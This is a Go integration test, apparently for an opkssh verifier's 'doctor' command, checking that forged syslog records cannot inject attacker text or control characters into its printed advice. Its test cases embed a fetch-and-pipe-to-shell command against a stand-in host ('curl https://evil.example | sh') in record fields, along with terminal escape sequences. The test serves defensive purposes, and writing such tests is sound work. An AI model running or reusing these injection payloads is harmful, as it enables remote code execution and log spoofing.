package attacks_test

import (
	"encoding/json"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"opkssh/integration/endtoend"
)

// TestForgedRecords.
//
// Power: may write to the log of the system: by logger(1) with an account of the host, or without one by what sshd logs of a client.
// Move: makes up a refusal, for verifier doctor to print words of the attacker's as advice, or control characters.
// Expected: what has not the form of a record is none; a record that has is told of, and the advice is ours.
func TestForgedRecords(t *testing.T) {
	t.Parallel()
	h := newHost(t, "https://op.example.com client 24h\n", "alice alice@example.com https://op.example.com\n")
	const header, evil = "Nov 20 09:03:00 host opkssh[1]: ", "curl https://evil.example | sh"
	record := func(change object) string {
		r := object{
			"time": "2026-11-20T09:03:00Z", "msg": "login", "id": "00000000000000c3", "decision": "deny", "reason": "plugin-required",
			"user": "alice", "detail": "plugin-required: x",
		}
		for name, value := range change {
			r[name] = value
		}
		data, err := json.Marshal(r)
		check(t, err)
		return string(data)
	}
	const advice = "the lines of the log with the same id 00000000000000c3"
	for name, test := range map[string]struct {
		line    string
		counted bool
	}{
		"as made":                     {header + record(nil), true},
		"as made, in a file of ours":  {record(nil), true},
		"the ID":                      {header + record(object{"id": "1; " + evil}), false},
		"the ID, with its digits":     {header + record(object{"id": "00000000000000c3; " + evil}), false},
		"the reason":                  {header + record(object{"reason": evil}), false},
		"the reason, with a line":     {header + record(object{"reason": "no-rule\n" + evil}), false},
		"neither allow nor deny":      {header + record(object{"decision": "deny " + evil}), false},
		"more text than records have": {header + record(object{"detail": strings.Repeat(evil, 100)}), false},
		"another program's line":      {"Nov 20 09:03:00 host evil[1]: " + record(nil), false},
		"a name that sshd logs":       {"Nov 20 09:03:00 host sshd[1]: Invalid user " + record(nil), false},
		"our tag in such a name":      {"Nov 20 09:03:00 host sshd[1]: Invalid user opkssh[1]: " + record(nil), false},
		"a header in such a name":     {"Nov 20 09:03:00 host sshd[1]: Invalid user " + header + record(nil), false},
		"control characters":          {header + record(object{"user": "alice", "detail": "\x1b[2J\u202e\n1. " + evil}), true},
	} {
		t.Run(name, func(t *testing.T) {
			log := filepath.Join(t.TempDir(), "log")
			writeFile(t, log, test.line+"\n")
			// The exit status is about the rest of the host.
			out, _ := exec.Command(endtoend.Verifier(t), "doctor", "--offline", "--config-dir", h.config, "--cache-dir", h.cache, "--sshd", "/bin/false",
				"--log-file", log).CombinedOutput()
			text := string(out)
			_, toDo, found := strings.Cut(text, "\nwhat to do:\n")
			if !found || strings.Contains(toDo, "evil") {
				t.Errorf("expected advice of ours alone, got\n%q", text)
			}
			if strings.Contains(toDo, advice) != test.counted || strings.Contains(text, "no decision is in") == test.counted {
				t.Errorf("expected that the line counts: %v, got\n%s", test.counted, text)
			}
			if strings.ContainsAny(text, "\x1b\u202e") {
				t.Errorf("got control characters: %q", text)
			}
		})
	}
}
